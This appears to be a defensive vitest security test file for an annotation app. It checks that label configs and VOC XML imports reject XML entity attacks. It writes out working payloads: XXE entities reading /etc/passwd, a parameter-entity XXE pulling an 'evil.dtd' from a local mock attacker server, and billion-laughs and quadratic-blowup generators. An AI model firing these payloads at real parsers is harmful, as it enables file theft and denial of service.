import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { waitForJob } from '../../src/jobs/job-runner.js';
import { describeEachDialect } from '../helpers/dialects.js';
import { makeTestApp, type TestApp, type TestUser } from '../helpers/test-app.js';
import { IMAGE_CONFIG, LABELIMG_VOC } from '../modules/imports-fixtures.js';
import { multipart } from '../modules/media-fixtures.js';

/** 10 levels of 10 references: a few hundred bytes that expand to 10^9 "lol"s in a parser that expands entities. */
function billionLaughs(root: string, use: (ref: string) => string): string {
  const levels = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)];
  return `<?xml version="1.0"?>\n<!DOCTYPE ${root} [\n${levels.join('\n')}\n]>\n${use('&lol9;')}`;
}

/** One entity of 100 kB referenced 10,000 times: quadratic blowup without nesting. */
function quadraticBlowup(root: string, use: (ref: string) => string): string {
  return `<?xml version="1.0"?>\n<!DOCTYPE ${root} [<!ENTITY a "${'a'.repeat(100_000)}">]>\n${use('&a;'.repeat(10_000))}`;
}

const configUsing = (ref: string) => `<View><Image name="image" value="$image"/><RectangleLabels name="box" toName="image"><Label value="${ref}"/></RectangleLabels></View>`;
const vocUsing = (ref: string) => LABELIMG_VOC.replace('<filename>street.png</filename>', `<filename>${ref}</filename>`);

describeEachDialect('XML entities: XXE and billion laughs in label configs and VOC imports', (dialect) => {
  let t: TestApp;
  let manager: TestUser;
  let dtdServer: http.Server;
  let dtdUrl: string;
  const dtdHits: string[] = [];

  beforeAll(async () => {
    // Stands in for an attacker's server (and for metadata endpoints): a parser that fetches external DTDs would call it.
    dtdServer = http.createServer((req, res) => {
      dtdHits.push(req.url ?? '');
      res.end('<!ENTITY exfil SYSTEM "file:///etc/passwd">');
    });
    await new Promise<void>((resolve) => dtdServer.listen(0, '127.0.0.1', resolve));
    dtdUrl = `http://127.0.0.1:${(dtdServer.address() as AddressInfo).port}/evil.dtd`;
    t = await makeTestApp(dialect, { config: { outboundAllow: ['127.0.0.1/32'] } });
    manager = await t.user();
  });
  afterAll(async () => {
    await t.close();
    dtdServer.closeAllConnections();
    await new Promise((resolve) => dtdServer.close(resolve));
  });

  const hostileXml = (root: string, use: (ref: string) => string): Record<string, string> => ({
    'XXE (file)': `<?xml version="1.0"?>\n<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${use('&xxe;')}`,
    'XXE (parameter entity)': `<?xml version="1.0"?>\n<!DOCTYPE ${root} [<!ENTITY % remote SYSTEM "${dtdUrl}"> %remote;]>\n${use('&exfil;')}`,
    'external DTD': `<?xml version="1.0"?>\n<!DOCTYPE ${root} SYSTEM "${dtdUrl}">\n${use('&exfil;')}`,
    'billion laughs': billionLaughs(root, use),
    'quadratic blowup': quadraticBlowup(root, use),
  });

  it('refuses every entity trick in a label config on create and on update, quickly, leaking nothing and fetching nothing', async () => {
    const projectId = (await t.call(manager, 'POST', '/api/projects', { title: 'Fine', labelConfig: IMAGE_CONFIG })).json().id as number;
    for (const [name, xml] of Object.entries(hostileXml('View', configUsing))) {
      for (const [method, url] of [['POST', '/api/projects'], ['PATCH', `/api/projects/${projectId}`]] as const) {
        const started = Date.now();
        const res = await t.call(manager, method, url, { ...(method === 'POST' ? { title: name } : {}), labelConfig: xml });
        expect(Date.now() - started, `${name} ${method}`).toBeLessThan(5_000); // a hang guard for loaded CI machines
        expect(res.statusCode, `${name} ${method}: ${res.body}`).toBe(400);
        expect(res.json().error.field, name).toBe('labelConfig');
        expect(res.body).not.toMatch(/root:|lollol|aaaaaaaaaa/);
      }
    }
    expect(dtdHits).toEqual([]);
    const project = (await t.call(manager, 'GET', `/api/projects/${projectId}`)).json();
    expect(JSON.stringify(project.labelConfig)).not.toMatch(/lol|root:|exfil/);
  });

  it('fails a VOC import with an entity trick naming the file, importing nothing and fetching nothing', async () => {
    const projectId = (await t.call(manager, 'POST', '/api/projects', { title: 'VOC', labelConfig: IMAGE_CONFIG })).json().id as number;
    for (const [name, xml] of Object.entries(hostileXml('annotation', vocUsing))) {
      const { payload, headers } = multipart([{ filename: 'street.xml', content: xml }]);
      const started = Date.now();
      const res = await t.app.inject({ method: 'POST', url: `/api/projects/${projectId}/imports`, payload, headers: { ...headers, authorization: `Bearer ${manager.token}` } });
      expect(res.statusCode, res.body).toBe(202);
      const job = await waitForJob(t.ctx, res.json().id as number, 20_000);
      expect(Date.now() - started, name).toBeLessThan(10_000);
      expect(job.status, name).toBe('failed');
      expect(job.error, name).toMatch(/^.*street\.xml/);
      expect(job.error).not.toMatch(/root:|lollol|aaaaaaaaaa/);
    }
    expect(dtdHits).toEqual([]);
    expect((await t.call(manager, 'GET', `/api/projects/${projectId}/tasks`)).json().items).toEqual([]);
  });
});
